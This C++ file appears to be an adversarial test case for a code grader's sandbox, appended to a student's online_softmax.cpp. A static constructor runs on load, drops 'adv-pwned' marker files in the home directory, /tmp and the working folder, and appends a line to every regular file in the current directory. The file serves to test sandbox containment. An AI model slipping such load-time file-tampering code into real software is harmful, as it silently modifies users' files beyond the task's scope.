// Adversarial case write-outside-host (solutions/lesson13/attacks/write-outside-host/case.json): appended to the solution's online_softmax.cpp.
// Run: grader/tests/adversarial_test.py build/bin/grader . --only write-outside-host

#include <dirent.h>

#include <cstdio>
#include <cstdlib>
#include <string>

namespace {
void adv_drop(const std::string& path) {
  if (FILE* f = std::fopen(path.c_str(), "w")) {
    std::fputs("adv-was-here\n", f);
    std::fclose(f);
  }
}

struct adv_writer {
  adv_writer() {
    const char* home = std::getenv("HOME");
    if (home) adv_drop(std::string(home) + "/adv-pwned-@CASE@");
    adv_drop("@HOME@/adv-pwned-@CASE@");
    adv_drop("/tmp/adv-pwned-@CASE@");
    if (DIR* d = opendir(".")) {  // every file of the working folder gets a line
      while (dirent* e = readdir(d))
        if (e->d_type == DT_REG)
          if (FILE* f = std::fopen(e->d_name, "a")) {
            std::fputs("adv-was-here\n", f);
            std::fclose(f);
          }
      closedir(d);
    }
    adv_drop("./adv-pwned-@CASE@");
  }
} adv_write_outside;
}  // namespace
